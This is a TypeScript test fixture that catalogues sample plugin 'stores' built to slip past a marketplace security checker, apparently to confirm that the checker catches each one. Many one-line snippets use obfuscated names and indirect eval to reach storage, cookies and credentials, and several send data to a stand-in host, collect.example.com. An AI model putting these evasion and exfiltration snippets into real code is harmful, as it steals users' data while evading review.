import type { RuleId } from '../report/report.ts';
import type { BrokenStore } from './broken-stores.ts';
import { inManifest, line, noise, onClick } from './mutations.ts';
import type { Mutation } from './store-files.ts';

/** Stores with a handler that makes one of these attacks: `event` is the press. */
const handler = (breaks: RuleId, check: string, ...attacks: readonly (readonly [what: string, code: string])[]): BrokenStore[] =>
  attacks.map(([what, code]) => ({ what, breaks, check, by: onClick(code) }));
/** Stores with a module that declares one of these attacks; the declaration is exported, so that no minifier leaves it out. */
const declared = (breaks: RuleId, check: string, ...attacks: readonly (readonly [what: string, code: string])[]): BrokenStore[] =>
  attacks.map(([what, code]) => ({ what, breaks, check, by: line(`export ${code}`) }));
const shipped = (breaks: RuleId, check: string, what: string, by: Mutation): BrokenStore => ({ what, breaks, check, by });

/** The attempts of a store to reach the storage that the host keeps, by the many ways in which a browser lets it. */
const storage = handler(
  'security', 'storage',
  ['the storage by the window of an element', "const kept = event.target.ownerDocument.defaultView.localStorage; kept.getItem('x')"],
  ['the storage by the view of an event', "event.view.sessionStorage.clear()"],
  ['the storage by a window that is handed around', 'const of = (view) => view.localStorage; of(event.view)'],
  ['the storage by Reflect', "Reflect.get(event.view, 'localStorage')"],
  ['the storage by its descriptor', "Object.getOwnPropertyDescriptor(event.view, 'localStorage').get.call(event.view)"],
  ['the storage by its getter', "event.view.__lookupGetter__('localStorage').call(event.view)"],
  ['the storage taken out of a window', 'const { localStorage: kept } = event.view; kept.clear()'],
  ['the storage by a name in pieces', "event.view[['local', 'Storage'].join('')].clear()"],
  ['the storage by a name in a list', "const names = ['localStorage']; for (const name of names) event.view[name].clear()"],
  ['the storage by a name in Base64', "event.view[atob('bG9jYWxTdG9yYWdl')].clear()"],
  ['the storage by numbers of letters', 'event.view[String.fromCharCode(105, 110, 100, 101, 120, 101, 100, 68, 66)].databases()'],
  ['the database of the keys', "indexedDB.open('keys')"],
  ['the cookies by the document of an element', 'event.target.ownerDocument.cookie.split(";")'],
  ['the cookies by a document that is handed around', 'const of = (page) => page.cookie; of(event.target.ownerDocument)'],
  ['the store of cookies', 'window.cookieStore.getAll()'],
  ['the caches of the origin', 'globalThis.caches.keys()'],
  ['the credentials of the browser', 'navigator.credentials.get({ password: true })'],
);
const hidden = handler(
  'security', 'hidden name',
  ['every member of the window', 'for (const value of Object.values(window)) console.log(value)'],
  ['a copy of the window', 'const copy = { ...globalThis }; console.log(copy)'],
  ['the names of the window', 'Object.getOwnPropertyNames(self).map((name) => name)'],
  ['the descriptors of the window', 'Object.getOwnPropertyDescriptors(window)'],
  ['a walk through the window', 'for (const name in window) console.log(name)'],
  ['the window under a name in a list', "for (const name of ['defaultView', event.type]) console.log(event.target.ownerDocument[name])"],
  ['a member of the window by what a buyer types', 'event.target.ownerDocument.defaultView[event.target.value]()'],
);
const keys = handler(
  'security', 'stored key',
  ['the identity config', "const key = 'okta_' + 'config'; console.log(key)"],
  ['the ID token by a template', 'const key = `id_token`; console.log(key)'],
  ['the proof key', "console.log(['pkce_state', 'pkce_code_verifier'])"],
  ['the XSRF cookie', "console.log('XSRF-TOKEN')"],
);
const windows = [
  ...handler(
    'security', 'other window',
    ['a frame that the document makes', "event.target.append(document.createElement('iframe'))"],
    ['a frame with a namespace', "document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')"],
    ['a frame in capital letters', "event.target.ownerDocument.createElement('IFRAME')"],
    ['an object with a document', "document.createElement('object')"],
    ['the window of a frame that is there', "document.querySelector('[title]').contentWindow.postMessage('')"],
    ['the document of a frame that is there', "document.querySelector('[title]').contentDocument.write"],
    ['the window of a frame by Reflect', "Reflect.get(event.target, 'contentWindow')"],
  ),
  ...declared('security', 'other window', ['a frame of React', "const Frame = () => jsx('iframe', { title: 'Other', src: '/' });"], ['an embedded document', "const Other = () => jsx('embed', { src: '/stores/sample/a.svg' });"]),
];
const workers = handler('security', 'worker', ['a service worker', "navigator.serviceWorker.register('/stores/sample/worker.js')"], ['the service worker by a name', "navigator['service' + 'Worker'].ready"]);
const insideReact = handler(
  'security', 'inside of React',
  ['the inside of an element of React', "event.target['__reactFiber$' + event.type]"],
  ['the inside of a component', "console.log(event.target._reactInternals)"],
  ['the root of React', "console.log(document.getElementById('root')['_reactRootContainer'])"],
);
const codeFromText = handler(
  'security', 'eval',
  ['the constructor of a function', "(() => {}).constructor('return 1')()"],
  ['the constructor of a named function', "function run() {} const Make = run.constructor; Make('return 1')()"],
  ['the constructor of an async function', "const Make = Object.getPrototypeOf(async () => {}).constructor; Make('return 1')()"],
  ['the constructor of any method', "const value = event.type; value.at.constructor('return 1')()"],
  ['the constructor of the prototype of functions', "new Function.prototype.constructor('return 1')"],
  ['a constructor by two computed names', "const name = 'constr' + 'uctor'; [][name][name]('return 1')()"],
  ['Function by Reflect', "Reflect.construct(Function, ['return 1'])"],
  ['Function with call', "Function.call(null, 'return 1')()"],
  ['eval by the window of an element', "event.target.ownerDocument.defaultView.eval('1')"],
  ['eval by the window of a window', "window.self.globalThis['eval']('1')"],
  ['eval in a comma', "(0, eval)('1')"],
  ['an interval with text', "setInterval('go()', 100)"],
  ['a timer with text that is put together', "globalThis['set' + 'Timeout']('go(' + event.type + ')', 1)"],
);
const html = handler(
  'security', 'raw HTML',
  ['HTML by a computed name', "event.target['inner' + 'HTML'] = event.type"],
  ['HTML around an element', 'event.target.outerHTML = event.type'],
  ['HTML beside an element', "event.target.insertAdjacentHTML('beforeend', event.type)"],
  ['HTML by Reflect', "Reflect.set(event.target, 'innerHTML', event.type)"],
  ['HTML by the setter', "Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML').set.call(event.target, event.type)"],
  ['HTML with other members', 'Object.assign(event.target, { innerHTML: event.type })'],
  ['HTML by a parser', "new DOMParser().parseFromString(event.type, 'text/html')"],
  ['HTML by a range', 'document.createRange().createContextualFragment(event.type)'],
  ['HTML by a command', "document.execCommand('insertHTML', false, event.type)"],
  ['HTML past React by a key that is put together', "const props = Object.fromEntries([['dangerouslySet' + 'InnerHTML', { __html: event.type }]]); console.log(props)"],
);
const inline = [
  ...handler('security', 'inline handler', ['a handler as an attribute node', "document.createAttribute('onload')"], ['a handler with a namespace', "event.target.setAttributeNS(null, 'onfocus', 'go()')"]),
  ...handler('security', 'inline style', ['a style that is set past React', "event.target.setAttribute('style', 'width: 10px')"]),
  ...handler('security', 'inline script', ['a script that the document makes', "document.createElement('script')"], ['another base of all addresses', "document.createElement('base')"]),
  ...handler('security', 'script address', ['an address with code in it', "console.log('java' + 'script:go()')"]),
];
const origins = handler(
  'security', 'other origin',
  ['a websocket', "new WebSocket('/vs/sample')"],
  ['a websocket of another host', "new WebSocket('wss://collect.example.com/')"],
  ['events of another host', "new EventSource('https://collect.example.com/')"],
  ['a connection of browsers', 'new RTCPeerConnection({ iceServers: [] })'],
  ['a worker', "new Worker('/stores/sample/work.js')"],
  ['a shared worker', "new SharedWorker('/stores/sample/work.js')"],
  ['a channel to other tabs', "new BroadcastChannel('sessions')"],
  ['a request by the window of an element', "event.target.ownerDocument.defaultView.fetch('https://collect.example.com/' + event.type)"],
  ['a request that is handed on', 'const send = fetch; send(event.type)'],
  ['a form that leads elsewhere', "event.target.action = 'https://collect.example.com/'"],
  ['a source that is set past React', "event.target.setAttribute('src', 'https://collect.example.com/p.gif')"],
  ['a picture in a style', "event.target.style.backgroundImage = 'url(https://collect.example.com/p.gif)'"],
  ['a picture that is not shown', "new Image().src = '//collect.example.com/' + event.type"],
);
const navigation = [
  ...handler(
    'security', 'navigation',
    ['another page with data in its address', "location.href = 'https://collect.example.com/?' + event.type"],
    ['another page by assignment', 'window.location = event.type'],
    ['another page by a method', "document.location.replace('//collect.example.com/')"],
    ['another window', "window.open('https://collect.example.com/?' + event.type)"],
    ['another page by the window of an element', "event.target.ownerDocument.defaultView.location.assign('https://collect.example.com/')"],
  ),
  ...declared('security', 'navigation', ['a page that leads itself elsewhere', "const Away = () => jsx('meta', { httpEquiv: 'refresh', content: '0;url=https://collect.example.com/' });"]),
];
const marks = [
  ...handler(
    'isolation', 'prototype',
    ['a method for all lists', 'Array.prototype.last = function () { return this.at(-1); }'],
    ['a member for all objects', "Object.defineProperty(Object.prototype, 'seen', { value: true })"],
    ['another reader of JSON', 'JSON.parse = () => null'],
    ['another reader of answers', 'Response.prototype.json = async () => ({})'],
    ['another reader of the storage', 'Object.assign(Storage.prototype, { getItem: () => null })'],
    ['what an object inherits', 'event.target.__proto__ = { secret: true }'],
    ['what all promises inherit', 'Object.setPrototypeOf(Promise.prototype, null)'],
    ['a getter for all elements', "Element.prototype.__defineGetter__('value', () => '')"],
  ),
  ...handler(
    'isolation', 'global',
    ['a global by the name of the window', 'window.seen = true'],
    ['a global by the window of an element', 'event.target.ownerDocument.defaultView.seen = true'],
    ['a global by defineProperty', "Object.defineProperty(globalThis, 'fetch', { value: null })"],
    ['a handler of all errors', 'self.onerror = () => true'],
    ['a global that is taken away', 'delete window.structuredClone'],
  ),
  ...handler(
    'isolation', 'mark on the page',
    ['the title of the page', "document.title = 'SAMPLE'"],
    ['a class of the body', "document.body.classList.add('sample')"],
    ['an attribute of the page', "document.documentElement.setAttribute('data-store', 'OTHER')"],
    ['a style of the page', "document.documentElement.style.overflow = 'hidden'"],
    ['the language of the page', "document.documentElement.lang = 'xx'"],
    ['a handler of the document', 'document.onclick = () => {}'],
  ),
  ...handler('isolation', 'history', ['an entry of the history', "history.pushState(null, '', '/elsewhere')"], ['a step back', 'window.history.back()']),
];

const react = (version: string, element: string) =>
  ({ add: { 'dist/react.js': `const element = Symbol.for('${element}');\nfunction Component() {}\nComponent.prototype.isReactComponent = {};\nconst queue = { isMounted: () => false, enqueueReplaceState() {}, enqueueSetState() {} };\nconst Children = { forEach() {}, toArray() {}, only: (child) => child.$$typeof === element };\nexport const version = '${version}';\nexport { Children, Component, queue };\n` } }) satisfies Mutation;
const runtime = (element: string) => ({ add: { 'dist/jsx.js': `const element = Symbol.for('${element}');\nexport const jsx = (type, config) => ({ $$typeof: element, type, key: null, ref: null, props: config, _owner: null });\n` } }) satisfies Mutation;
const packages: readonly BrokenStore[] = [
  shipped('dependencies', 'bundled', 'a React of 2017', react('16.0.0', 'react.element')),
  shipped('dependencies', 'bundled', 'a React of 2022', react('18.2.0', 'react.element')),
  shipped('dependencies', 'bundled', 'a React of today', react('19.3.1', 'react.transitional.element')),
  shipped('dependencies', 'bundled', 'a JSX runtime of 2020', runtime('react.element')),
  shipped('dependencies', 'bundled', 'a JSX runtime of tomorrow', runtime('react.some.later.element')),
  shipped('dependencies', 'bundled', 'a React DOM of 2020', { add: { 'dist/dom.js': 'export function findDOMNode() {}\nexport const createPortal = () => null, unstable_batchedUpdates = (run) => run();\n' } }),
  shipped('dependencies', 'second copy', 'Emotion as a dependency', inManifest(['"peerDependencies": {', '"dependencies": { "@emotion/react": "11.14.0" },\n  "peerDependencies": {'])),
  shipped('dependencies', 'bare import', 'a module of Node', line("export const later = () => import('node:fs');".replace('node:fs', 'fs'))),

  shipped('api', 'peer range', 'no range for React', inManifest([',\n    "react": "^19.3.1"', ''])),
  shipped('api', 'peer range', 'no range for core', inManifest(['    "@quartermaster/core": "^0.1.0",\n', ''])),
  shipped('api', 'peer range', 'an Emotion of the past', inManifest(['"@emotion/react": "^11.14.0"', '"@emotion/react": "^10.0.0"'])),
  shipped('api', 'peer range', 'a range that is none', inManifest(['"@quartermaster/ui": "^0.1.0"', '"@quartermaster/ui": "latest"'])),
  shipped('api', 'door', 'the container of all strategies', { ...line("import { container } from 'tsyringe';\nexport const inside = () => container.createChildContainer();"), replace: { ...line("import { container } from 'tsyringe';\nexport const inside = () => container.createChildContainer();").replace, 'package.json': [['"react": "^19.3.1"', '"react": "^19.3.1",\n    "tsyringe": "^4.10.0"']] } }),

  shipped('manifest', 'JSON', 'a package.json that is cut off', { add: { 'package.json': '{ "name": "store-sample", ' } }),
  shipped('manifest', 'JSON', 'a package.json that is a list', { add: { 'package.json': '[]' } }),
  shipped('manifest', 'fields', 'a package.json without a word of the marketplace', inManifest(['"quartermaster": {', '"quartermasters": {'])),

  shipped('integrity', 'syntax', 'a name that is declared twice', { add: { 'dist/twice.js': 'const one = 1;\nconst one = 2;\nexport { one };\n' } }),
  shipped('integrity', 'syntax', 'an await where none may be', { add: { 'dist/wait.js': 'export const wait = () => { await 1; };\n' } }),
  shipped('integrity', 'syntax', 'a module in another language', { add: { 'dist/page.js': '<!doctype html><title>Not found</title>' } }),
  shipped('integrity', 'JSON', 'data that is none', { add: { 'dist/prices.json': '{ "prices": [1, 2' } }),
  shipped('integrity', 'JSON', 'data of no bytes', { add: { 'dist/prices.json': '' } }),
  shipped('integrity', 'network import', 'a module in an address', line("export const later = () => import('data:text/javascript,export default 1');")),
  shipped('integrity', 'missing file', 'a picture that was not packed', line("export const picture = () => new URL('./assets/picture.svg', import.meta.url).href;")),

  shipped('security', 'other origin', 'a font of another origin', { add: { 'dist/fonts.css': "@font-face { font-family: Sample; src: url(https://fonts.example.com/sample.woff2) }\n" } }),
  shipped('security', 'other origin', 'a stylesheet that a stylesheet imports', { add: { 'dist/extra.css': '@import "//cdn.example.com/a.css";\n' } }),

  shipped('theme', 'written color', 'a color in an object that becomes a style', line("const looks = { color: '#333333' };\nexport const box = css(looks);")),
  shipped('theme', 'written color', 'a color of an attribute', line("export const Dot = () => jsx('circle', { r: 2, fill: '#c00' });")),
  shipped('theme', 'written color', 'a color of a style of React', line("export const Wide = () => jsx('p', { style: { color: 'tomato' } });")),
  shipped('theme', 'written color', 'a color in a template', line('export const box = css`border: 1px solid #ddd;`;')),
  shipped('theme', 'written color', 'a color of a CSS module', { add: { 'dist/assets/card.css': '._card_1x { background-color: hsl(210 40% 20%) }\n' } }),

  shipped('size', 'first load', 'a stylesheet of forty kilobytes', { add: { 'dist/assets/all.css': `._sample { content: '${noise(60)}' }\n` } }),
  shipped('size', 'first load', 'a chunk that is loaded as soon as the store is', { replace: { 'dist/store.js': [['class Logger {\n', "export const words = import('./words.js?v=1').catch(() => null);\nclass Logger {\n"]] }, add: { 'dist/words.js': `export default '${noise(60)}';\n` } }),
  shipped('size', 'screen load', 'a screen of more than a hundred kilobytes', { replace: { 'dist/NotFound.js': [["import { HomeLink } from '@quartermaster/core';", "import { HomeLink } from '@quartermaster/core';\nimport './words.js';"]] }, add: { 'dist/words.js': `export default '${noise(230)}';\n` } }),
  shipped('size', 'all of dist', 'pictures of three megabytes', { add: Object.fromEntries(Array.from({ length: 3 }, (_, index) => [`dist/assets/${index}.png`, new Uint8Array(1024 * 1024)])) }),
];

/** Stores that were written to get past the rules. Reading catches each of them. */
export const attacks: readonly BrokenStore[] = [
  ...storage, ...hidden, ...keys, ...windows, ...workers, ...insideReact, ...codeFromText, ...html, ...inline, ...origins, ...navigation, ...marks, ...packages,
];
